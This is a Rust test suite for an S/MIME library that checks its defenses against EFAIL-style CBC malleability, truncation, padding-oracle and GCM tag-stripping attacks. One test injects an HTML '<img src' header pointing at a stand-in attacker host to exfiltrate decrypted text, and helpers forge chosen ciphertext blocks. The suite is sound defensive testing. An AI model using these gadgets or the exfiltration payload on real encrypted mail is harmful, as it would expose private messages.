//! What an attacker who holds a ciphertext and writes a mail around it gets: nothing.
//!
//! CBC lets whoever knows one block of the plaintext write blocks of their own choice into it, with
//! a block of noise before each (EFAIL, CVE-2017-17688 and CVE-2017-17689). None of it must leave
//! under the strict policy, and none of it under the standard one where a signature was inside; and
//! plaintext never stands beside parts that came from elsewhere.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test that is wrong about its own input must fail"
)]

#[path = "efail/neighbours.rs"]
mod neighbours;
#[path = "efail/stolen.rs"]
mod stolen;
use stolen::{Stolen, attacks};

mod common;

use smime::{
    Cipher, Draft, Message, Mode, Policy, SignedForm, Verdict,
    crypto::{ContentCipher, fastest},
};
use smime_testkit::TestKey;

use common::{ALICE, BOB, SECRET, World, contains, draft, encryption, entity, expected_entity};

#[test]
fn altered_cbc_gives_nothing_under_strict() {
    let world = world();
    for cipher in CBC {
        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
        for (what, attack) in attacks(&stolen, &expected_entity(&letter())) {
            let error = world
                .receiver(Policy::strict())
                .open(&*attack.enveloped())
                .unwrap_err();
            let code = error.code();
            assert!(
                ["engine.withheld", "engine.decrypt_failed"].contains(&code),
                "{code}: {what}"
            );
            assert!(!format!("{error:?}").contains(SECRET), "{what}");
        }
    }
}

#[test]
fn altered_cbc_is_never_called_authenticated_or_signed_under_standard() {
    let world = world();
    let mut chosen = 0;
    for cipher in CBC {
        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
        for (what, attack) in attacks(&stolen, &expected_entity(&letter())) {
            match world.open(&attack.enveloped()) {
                Ok(opened) => {
                    assert_eq!(
                        encryption(opened.layers()),
                        Some((Some(cipher), false)),
                        "{what}"
                    );
                    assert_eq!(opened.signature(), Verdict::None, "{what}");
                    chosen += u32::from(contains(&entity(&opened), b"<img src"));
                }
                Err(error) => assert_eq!(error.code(), "engine.decrypt_failed", "{what}"),
            }
        }
    }
    assert!(chosen > 0, "the attacks are none");
}

#[test]
fn noise_in_a_header_keeps_everything_inside() {
    // A chosen header needs more than the one block that comes without noise.
    let world = world();
    let stolen = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Cbc)));
    let plaintext = expected_entity(&letter());
    for header in [
        "Content-Type: text/html\r\n\r\n<img src=\"http://attacker.example/",
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<a href='",
    ] {
        let mut blocks = Vec::new();
        for wanted in header.as_bytes().chunks(BLOCK) {
            blocks.extend(stolen.gadget(&plaintext, wanted));
        }
        let mut attack = stolen.clone();
        // The first block of a gadget as the vector: its noise is gone.
        attack.iv = blocks.remove(0);
        attack.set_blocks(&[blocks, stolen.blocks()].concat());
        for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
            let error = world
                .receiver(policy)
                .open(&*attack.enveloped())
                .unwrap_err();
            check_nothing_told(&error, header);
        }
    }
}

#[test]
fn a_cut_message_gives_nothing_although_its_padding_is_right() {
    let world = world();
    let letter = multipart_letter();
    let plaintext = expected_entity(&letter);
    let stolen = Stolen::from(&world.seal(&encrypted(&letter, ContentCipher::Aes256Cbc)));
    let padded = stolen.gadget(&plaintext, &[u8::try_from(BLOCK).unwrap(); BLOCK]);
    for kept in 0..stolen.blocks().len() {
        let mut attack = stolen.clone();
        attack.set_blocks(&[&stolen.blocks()[..kept], &padded].concat());
        for policy in [Policy::standard(), Policy::strict()] {
            let end = (kept + 1) * BLOCK;
            match world.receiver(policy.clone()).open(&*attack.enveloped()) {
                Err(error) => check_nothing_told(&error, "cut"),
                // Nothing but what follows the last boundary is missing.
                Ok(_) => assert!(contains(
                    &plaintext[..end.min(plaintext.len())],
                    b"--part--"
                )),
            }
        }
    }
}

#[test]
fn an_altered_envelope_around_a_signature_gives_nothing() {
    let world = world();
    for form in [SignedForm::Detached, SignedForm::Opaque] {
        for cipher in CBC {
            let mut draft = encrypted(&letter(), cipher);
            (draft.sign, draft.form) = (Some(Mode::Always), form);
            let sealed = world.seal(&draft);
            let stolen = Stolen::from(&sealed);
            let plaintext = stolen.decrypted(&world);
            let header = plaintext
                .windows(4)
                .position(|it| it == b"\r\n\r\n")
                .unwrap()
                + 4;
            for (what, attack) in attacks(&stolen, &plaintext) {
                let keeps_header = attack.iv == stolen.iv
                    && attack
                        .ciphertext
                        .starts_with(&stolen.ciphertext[..header + BLOCK]);
                for policy in [Policy::standard(), Policy::strict()] {
                    let what = format!("{what}, {form:?}");
                    let opened = world.receiver(policy).open(&*attack.enveloped());
                    check_signed_inside(opened, cipher, keeps_header, &what);
                }
            }
        }
    }
}

/// One answer of each policy, and nothing beside it, whatever was wrong inside.
fn check_nothing_told(error: &smime::Error, what: &str) {
    let answers = ["engine.decrypt_failed", "engine.withheld"];
    assert!(answers.contains(&error.code()), "{what}: {error}");
    assert!(error.layers.is_empty(), "{what}: {error}");
}

/// Nothing but the signed content leaves, as long as anything inside claims to be signed.
fn check_signed_inside(
    opened: Result<Message, smime::Error>,
    cipher: ContentCipher,
    keeps_header: bool,
    what: &str,
) {
    let opened = match opened {
        Ok(opened) => opened,
        Err(error) => return check_nothing_told(&error, what),
    };
    if opened.signature() == Verdict::Good {
        assert_eq!(entity(&opened), expected_entity(&letter()), "{what}");
        return;
    }
    assert!(!keeps_header, "content of an altered envelope left: {what}");
    assert_eq!(opened.signature(), Verdict::None, "{what}");
    assert_eq!(
        encryption(opened.layers()),
        Some((Some(cipher), false)),
        "{what}"
    );
}

#[test]
fn a_signature_hidden_by_one_block_is_withheld_under_strict_and_flagged_under_standard() {
    let world = world();
    let mut draft = encrypted(&letter(), ContentCipher::Aes256Cbc);
    draft.sign = Some(Mode::Always);
    let stolen = Stolen::from(&world.seal(&draft));
    let plaintext = stolen.decrypted(&world);
    let mut attack = stolen.clone();
    attack.iv = xor(&xor(&stolen.iv, &plaintext), b"X-Nothing: a; mu");
    let error = world
        .receiver(Policy::strict())
        .open(&*attack.enveloped())
        .unwrap_err();
    assert_eq!(error.code(), "engine.withheld");
    // Nothing tells such a message from one that was never signed.
    let opened = world.open(&attack.enveloped()).unwrap();
    assert_eq!(opened.signature(), Verdict::None);
    assert_eq!(
        encryption(opened.layers()),
        Some((Some(ContentCipher::Aes256Cbc), false))
    );
}

#[test]
fn a_signature_of_somebody_else_around_altered_cbc_vouches_for_nothing() {
    let world = world();
    let plain = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Cbc)));
    let mut draft = encrypted(&letter(), ContentCipher::Aes256Cbc);
    draft.sign = Some(Mode::Always);
    let signed = Stolen::from(&world.seal(&draft));
    let bodies = [
        (&plain, expected_entity(&letter())),
        (&signed, signed.decrypted(&world)),
    ];
    for form in [SignedForm::Detached, SignedForm::Opaque] {
        for (number, (stolen, plaintext)) in bodies.iter().enumerate() {
            for (what, attack) in attacks(stolen, plaintext) {
                // Whoever signs here has a certificate that is as good as any.
                let mut around = common::draft(&attack.enveloped());
                (around.sign, around.form) = (Some(Mode::Always), form);
                let mail = world.seal(&around);
                let strict = world.receiver(Policy::strict()).open(&*mail);
                if let Ok(opened) = &strict {
                    assert_eq!(number, 1, "{what}");
                    assert_eq!(entity(opened), expected_entity(&letter()), "{what}");
                }
                if let Ok(opened) = world.open(&mail) {
                    let is_whole = entity(&opened) == expected_entity(&letter());
                    let vouched = encryption(opened.layers()).unwrap().1;
                    assert!(!vouched || is_whole && number == 1, "{what}, {form:?}");
                }
            }
        }
    }
}

#[test]
fn an_authenticated_ciphertext_under_another_name_gives_nothing() {
    let world = world();
    for cipher in [ContentCipher::Aes128Gcm, ContentCipher::Aes256Gcm] {
        let stolen = Stolen::from(&world.seal(&encrypted(&letter(), cipher)));
        assert!(!stolen.tag.is_empty());
        let mut attacks = vec![stolen.enveloped()];
        for other in ContentCipher::ALL {
            // The block that the counter mode starts from, and one of nothing.
            let counter = [&stolen.iv[..], &[0, 0, 0, 2]].concat();
            for iv in [counter, vec![0; BLOCK], stolen.iv.clone()] {
                let mut attack = Stolen {
                    cipher: other,
                    iv,
                    ..stolen.clone()
                };
                if attack.iv.len() == other.iv_length() {
                    attacks.push(attack.enveloped());
                    attacks.extend((other != cipher).then(|| attack.auth_enveloped()));
                    // In whole blocks, padded and not.
                    let whole = attack.ciphertext.len() / BLOCK * BLOCK;
                    attack.ciphertext.truncate(whole);
                    attacks.push(attack.enveloped());
                    attacks.push(attack.auth_enveloped());
                    attack.ciphertext.extend([16; BLOCK]);
                    attacks.push(attack.enveloped());
                }
            }
        }
        for attack in attacks {
            for policy in [Policy::standard(), Policy::strict(), Policy::archive()] {
                let error = world.receiver(policy).open(&*attack).unwrap_err();
                assert!(!format!("{error} {error:?}").contains(SECRET));
            }
        }
    }
}

#[test]
fn an_authenticated_ciphertext_needs_its_whole_tag_and_all_of_itself() {
    let world = world();
    let stolen = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Gcm)));
    let mut attacks = Vec::new();
    for length in 0..stolen.tag.len() {
        let tag = stolen.tag[..length].to_vec();
        attacks.push(Stolen {
            tag,
            ..stolen.clone()
        });
    }
    let longer = [&stolen.tag[..], &[0]].concat();
    attacks.push(Stolen {
        tag: longer,
        ..stolen.clone()
    });
    for length in 0..stolen.ciphertext.len() {
        let ciphertext = stolen.ciphertext[..length].to_vec();
        attacks.push(Stolen {
            ciphertext,
            ..stolen.clone()
        });
    }
    for added in 1..=2 * BLOCK {
        let ciphertext = [&stolen.ciphertext[..], &vec![0; added]].concat();
        attacks.push(Stolen {
            ciphertext,
            ..stolen.clone()
        });
    }
    for at in 0..stolen.ciphertext.len() {
        let mut attack = stolen.clone();
        attack.ciphertext[at] ^= 0x20;
        attacks.push(attack);
    }
    for attack in attacks {
        let error = world.open(&attack.auth_enveloped()).unwrap_err();
        assert_eq!(error.code(), "engine.decrypt_failed");
    }
    assert!(world.open(&stolen.auth_enveloped()).is_ok());
}

fn body_of(mail: &[u8]) -> &[u8] {
    let end = mail.windows(4).position(|it| it == b"\r\n\r\n").unwrap();
    &mail[end + 4..]
}

/// A text with the secret at its beginning, its end and in between.
fn letter() -> Vec<u8> {
    format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nContent-Type: text/plain; charset=us-ascii\r\n\r\n\
         {SECRET}\r\n\r\nSag es keinem weiter, auch deinem Bruder nicht.\r\n{SECRET}\r\n\
         Bring einen Spaten mit, und komm nicht vor Mitternacht.\r\n{SECRET}\r\n"
    )
    .into_bytes()
}

/// A mail whose end is known by its boundary.
fn multipart_letter() -> Vec<u8> {
    format!(
        "From: {ALICE}\r\nTo: {BOB}\r\nContent-Type: multipart/mixed; boundary=part\r\n\r\n\
         --part\r\n\r\n{SECRET}\r\n--part\r\nContent-Type: text/html\r\n\r\n<p>{SECRET}\r\n--part--\r\n"
    )
    .into_bytes()
}

fn encrypted(mail: &[u8], cipher: ContentCipher) -> Draft {
    let mut draft = draft(mail);
    (draft.encrypt, draft.cipher) = (Some(Mode::Always), Cipher::Only(cipher));
    draft
}

fn world() -> World {
    World::new(TestKey::P256A, TestKey::P256A, fastest())
}

fn xor(a: &[u8], b: &[u8]) -> Vec<u8> {
    a.iter().zip(b).map(|(a, b)| a ^ b).collect()
}

const CBC: [ContentCipher; 2] = [ContentCipher::Aes128Cbc, ContentCipher::Aes256Cbc];

const BLOCK: usize = 16;

/// The DER of the object identifiers id-data, id-envelopedData and id-ct-authEnvelopedData.
const DATA: &[u8] = &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 1];
const ENVELOPED_DATA: &[u8] = &[6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3];
const AUTH_ENVELOPED_DATA: &[u8] = &[6, 11, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 16, 1, 23];

#[test]
fn no_answer_tells_whether_the_padding_was_right() {
    let world = world();
    let stolen = Stolen::from(&world.seal(&encrypted(&letter(), ContentCipher::Aes256Cbc)));
    for (policy, expected) in [
        (Policy::standard(), "engine.decrypt_failed"),
        (Policy::strict(), "engine.withheld"),
    ] {
        // Every last byte of the block before the last: one of them, besides the true one, makes
        // the padding right and the content something else.
        let blocks = stolen.blocks();
        for byte in 0..=255 {
            let mut attack = stolen.clone();
            let mut changed = blocks.clone();
            let before_last = changed.len() - 2;
            changed[before_last][BLOCK - 1] = byte;
            attack.set_blocks(&changed);
            match world.receiver(policy.clone()).open(&*attack.enveloped()) {
                Err(error) => {
                    assert_eq!(error.code(), expected, "{byte}");
                    assert!(error.layers.is_empty(), "{byte}");
                }
                Ok(opened) => assert_eq!(
                    encryption(opened.layers()),
                    Some((Some(ContentCipher::Aes256Cbc), false)),
                    "{byte}"
                ),
            }
        }
    }
}
